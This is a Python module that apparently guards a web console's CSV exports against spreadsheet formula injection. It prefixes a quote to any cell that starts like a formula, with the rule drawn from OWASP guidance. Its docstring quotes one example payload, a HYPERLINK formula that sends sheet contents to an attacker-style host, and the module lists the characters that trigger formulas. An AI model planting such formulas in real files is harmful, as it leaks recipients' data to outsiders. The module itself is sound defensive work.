"""CSV files people open in a spreadsheet: every cell is text, never a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell as a formula when its
first character says so, so a recipient named `=HYPERLINK("https://evil.example/?"&A1)`
would turn an error report into a link that leaks the sheet. OWASP's CSV injection
guidance: "Ensure that no cells begin with any of the following characters: Equals
to (=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)" and "prepend
each cell field with a single quote"; ASVS 1.2.10 adds the null character. The
separators and quotes inside a cell are RFC 4180's business, done by the csv module.

Every CSV Laurel offers for download goes through `to_csv`: the console's bulk
template and error reports, and the exports that come later. Pure: no I/O.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

# the first characters that make a cell a formula (or smuggle one in after a tab/newline)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
# Spreadsheets trim some leading whitespace before they look for a formula (LibreOffice
# reads " =1+1" as a formula when "trim spaces" is on; a line feed before "=" survives
# some importers), and the full-width forms of = + - @ are folded to ASCII by some
# (Excel's IME input): a cell whose first non-blank character starts a formula is
# neutralised too.
_FULL_WIDTH = str.maketrans({"\uff1d": "=", "\uff0b": "+", "\uff0d": "-", "\uff20": "@"})


def cell(value: Any) -> str:
    """One cell as inert text: None is empty; a value that starts like a formula (after
    any leading whitespace) gets a leading `'`, which spreadsheets show as text and do
    not display."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip().translate(_FULL_WIDTH).startswith(FORMULA_STARTS):
        return "'" + text
    return text


def to_csv(header: Iterable[Any] | None, rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document (RFC 4180: CRLF line ends, quoted where needed), every cell
    of the header and of the rows neutralised. `header` None: the rows alone (a part of
    a document written in pieces)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([cell(v) for v in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return out.getvalue()


BOM = "\ufeff"


def for_spreadsheet(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """`to_csv` as a file to download: UTF-8 with a byte-order mark, which is how Excel
    knows the file is UTF-8 (without it, accented names come out garbled)."""
    return (BOM + to_csv(header, rows)).encode("utf-8")
